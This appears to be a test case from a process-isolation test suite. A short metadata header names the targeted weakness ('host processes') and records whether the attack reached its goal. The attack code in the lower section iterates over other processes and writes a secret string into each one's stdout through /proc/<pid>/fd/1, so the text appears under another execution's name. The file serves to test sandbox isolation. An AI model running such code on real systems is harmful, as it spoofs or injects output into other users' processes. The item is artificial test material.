# weakness: host processes
# goal: print in the name of another execution
# judged: other
# reached: [null, "$SECRET"]
# refused: null
import _mce_host

_mce_host.call("test", "ready", {})
_mce_host.call("test", "wait", {})
result = None
# --- beside ---
import time

import _mce_host
from attack import others

for process in others():
    try:
        with open(f"/proc/{process}/fd/1", "w") as file:
            file.write("$SECRET")
    except OSError:
        continue
_mce_host.call("test", "done", {})
time.sleep(60)
